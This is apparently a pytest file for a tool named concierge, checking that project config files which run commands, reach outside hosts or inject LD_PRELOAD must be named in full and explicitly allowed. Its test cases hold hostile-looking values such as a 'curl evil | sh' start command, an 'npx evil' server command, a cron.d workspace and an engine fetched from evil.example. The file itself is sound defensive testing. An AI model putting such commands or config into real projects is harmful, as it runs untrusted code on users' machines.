"""What a project may not do unasked is named in full, and allowed for exactly this content."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from concierge.catalog.loader import load
from concierge.catalog.types import HttpsSource
from concierge.config.keys import Llm
from concierge.config.sources import settings
from concierge.lock import trust
from concierge.lock.resolve import resolve
from concierge.lock.trust import Trusted
from concierge.paths import Home

if TYPE_CHECKING:
    from pathlib import Path

    from concierge.config.keys import KeyPath
    from concierge.lock.file import Lock
    from concierge.lock.trust import Asked


class Project:
    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.environ = {"HOME": str(folder / "nobody")}

    def asks(self, text: str, **flags: Any) -> Asked:
        (self.folder / "concierge.toml").write_text(text)
        overrides: dict[KeyPath, Any] = {("llm", name): value for name, value in flags.items()}
        return trust.of_settings(settings(overrides, environ=self.environ, folder=self.folder), self.folder)


@pytest.fixture
def project(tmp_path: Path) -> Project:
    (tmp_path / "project").mkdir()
    return Project(tmp_path / "project")


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ("[llm]\nlocal_llm_start_cmd = ['sh', '-c', 'curl evil | sh']", '"curl evil | sh"'),
        ("local_llm_start_cmd = ['./serve']", '["./serve"]'),
        ("[llm]\nflake = 'github:somebody/engines'", "github:somebody/engines"),
        ("[llm]\nmodel = 'hf:some/body/x.gguf@" + "a" * 40 + "'", "hf:some/body/x.gguf@" + "a" * 40),
        ("[llm]\nmodel = './x.gguf'", "./x.gguf"),
        ("base_url = 'https://llm.example/v1'", "sends what you ask to https://llm.example/v1"),
        ("[api]\nhost = '0.0.0.0'", "other machines, at 0.0.0.0"),
        ("[api]\ntoken = 'known-to-all'", "a token that it knows"),
        ("workspace_root = '/etc/cron.d'", "/etc/cron.d"),
        ("workspace_root = '../elsewhere'", "../elsewhere"),
        ("mirror = 'http://mirror.example'", "fetches what is pinned from http://mirror.example"),
        ("[mcp.servers.x]\ncommand = ['npx', 'evil']", 'runs the command ["npx", "evil"] as the MCP server x'),
        ("[mcp.servers.x]\nurl = 'https://mcp.example/mcp'", "tools of https://mcp.example/mcp, as the MCP server x"),
        ("[mcp.servers.x]\nurl = 'http://127.0.0.1:8000/mcp'", "tools of http://127.0.0.1:8000/mcp"),
    ],
)
def test_what_would_act_for_a_stranger_is_asked_for_and_named_in_full(project: Project, text: str, named: str) -> None:
    (request,) = project.asks(text).requests
    assert named in request.what
    assert request.place == str(project.folder / "concierge.toml")
    assert named in str(trust.refusal(project.asks(text)))


@pytest.mark.parametrize(
    "text",
    [
        "",
        "[llm]\nmodel = 'smollm2-135m'\ncontext = 4096\nengine = 'llama-cpp'\naccelerator = 'cpu'",
        "base_url = 'http://127.0.0.1:8080/v1'\napi_key = 'ours'",
        "[api]\nhost = '127.0.0.1'\nport = 0",
        "workspace_root = 'work/runs'",
        "locked = true\n[run]\nmax_steps = 3",
    ],
)
def test_an_ordinary_project_asks_for_nothing(project: Project, text: str) -> None:
    assert project.asks(text).requests == ()


def test_what_the_person_sets_is_not_the_projects_to_ask(project: Project) -> None:
    text = "[llm]\nlocal_llm_start_cmd = ['theirs']"
    assert project.asks(text, local_llm_start_cmd=["mine"]).requests == ()
    project.environ["CONCIERGE_LLM_LOCAL_LLM_START_CMD"] = '["mine"]'
    assert project.asks(text).requests == ()


def test_a_file_that_the_person_names_asks_for_nothing(project: Project, tmp_path: Path) -> None:
    mine = tmp_path / "mine.toml"
    mine.write_text("local_llm_start_cmd = ['mine']")
    project.environ["CONCIERGE_CONFIG_PATH"] = str(mine)
    assert project.asks("local_llm_start_cmd = ['theirs']").requests == ()


def test_what_is_allowed_is_this_content_and_no_other(project: Project, tmp_path: Path) -> None:
    trusted = Trusted(Home(tmp_path / "home"))
    before = project.asks("local_llm_start_cmd = ['serve', '8080']")
    assert not trusted.allows(before)
    trusted.allow(before)
    assert trusted.allows(project.asks("local_llm_start_cmd = ['serve', '8080']\n[run]\nmax_steps = 2"))
    assert not trusted.allows(project.asks("local_llm_start_cmd = ['serve', '8081']"))
    trusted.forget([before.digest])
    assert not trusted.allows(before)


def test_the_same_words_in_another_folder_are_another_project(project: Project, tmp_path: Path) -> None:
    other = tmp_path / "other"
    other.mkdir()
    text = "local_llm_start_cmd = ['make', 'serve']"
    assert project.asks(text).digest != Project(other).asks(text).digest


@pytest.mark.promise("S4")
@pytest.mark.parametrize(
    ("text", "file"),
    [
        ("local_llm_start_cmd = ['./serve.sh']", "serve.sh"),
        ("local_llm_start_cmd = ['sh', 'tools/serve.sh']", "tools/serve.sh"),
        ("[llm]\nflake = '.'", "flake.nix"),
        ("[llm]\nflake = './engines#x'", "engines/flake.lock"),
    ],
)
def test_a_named_file_of_the_project_is_part_of_what_is_allowed(project: Project, text: str, file: str) -> None:
    script = project.folder / file
    script.parent.mkdir(exist_ok=True)
    script.write_text("one")
    before = project.asks(text)
    assert project.asks(text) == before
    script.write_text("two")
    assert project.asks(text).digest != before.digest


def test_what_a_server_of_the_projects_is_given_is_part_of_what_is_allowed(project: Project) -> None:
    asked = project.asks("[mcp.servers.x]\ncommand = ['npx', 'x']\nenv = {LD_PRELOAD = './a.so'}")
    assert [request.what for request in asked.requests] == [
        'runs the command ["npx", "x"] as the MCP server x',
        "gives the MCP server x LD_PRELOAD=./a.so",
    ]
    other = project.asks("[mcp.servers.x]\ncommand = ['npx', 'x']\nenv = {LD_PRELOAD = './b.so'}")
    assert other.digest != asked.digest


def test_a_mark_tells_a_person_what_was_allowed(project: Project, tmp_path: Path) -> None:
    home = Home(tmp_path / "home")
    asked = project.asks("local_llm_start_cmd = ['serve']")
    Trusted(home).allow(asked)
    (mark,) = (home.root / "trust").iterdir()
    assert '["serve"]' in mark.read_text()
    assert mark.stat().st_mode & 0o077 == 0


def of(lock: Lock) -> Asked:
    return trust.of_lock(lock, load(), place="concierge.lock", digest="d")


def test_a_lock_of_this_release_asks_for_nothing() -> None:
    assert of(resolve(Llm(), load())).requests == ()


def test_entries_that_this_release_does_not_know_are_named_with_their_origin() -> None:
    lock = resolve(Llm(model="smollm2-135m", accelerator="cpu"), load())
    theirs = HttpsSource(url="https://evil.example/engine.zip")
    build, model = lock.build[0], lock.model[0]
    engine = build.artefact[0].model_copy(update={"sources": (theirs,)})
    weights = model.artefact[0].model_copy(update={"sha256": "0" * 64})
    changed = lock.model_copy(
        update={
            "build": (build.model_copy(update={"artefact": (engine, *build.artefact[1:])}), *lock.build[1:]),
            "model": (model.model_copy(update={"artefact": (weights,)}),),
        }
    )
    first, second = of(changed).requests
    assert f"{engine.name} from evil.example, sha256 {engine.sha256}" in first.what
    assert "0" * 64 in second.what


@pytest.mark.parametrize(
    "update", [{"executable": "other"}, {"launcher": "ollama"}, {"version": "b0"}, {"proven": False}]
)
def test_an_entry_that_differs_in_anything_is_not_known(update: dict[str, Any]) -> None:
    lock = resolve(Llm(model="smollm2-135m"), load())
    build = next(each for each in lock.build if any(getattr(each, key) != value for key, value in update.items()))
    changed = lock.model_copy(update={"build": (build.model_copy(update=update),), "model": ()})
    assert len(of(changed).requests) == 1


def test_the_refusal_of_a_large_lock_leaves_nothing_out() -> None:
    lock = resolve(Llm(), load())
    old = lock.model_copy(update={"build": tuple(b.model_copy(update={"version": "old"}) for b in lock.build)})
    assert str(trust.refusal(of(old))).count("runs the engine") == len(lock.build) > 10


@pytest.mark.promise("S7")
def test_a_project_may_not_allow_itself(project: Project) -> None:
    from concierge.errors import ConfigError

    with pytest.raises(ConfigError, match="may not allow itself") as caught:
        project.asks("trust = true")
    assert caught.value.hint is not None
    assert "CONCIERGE_TRUST" in caught.value.hint
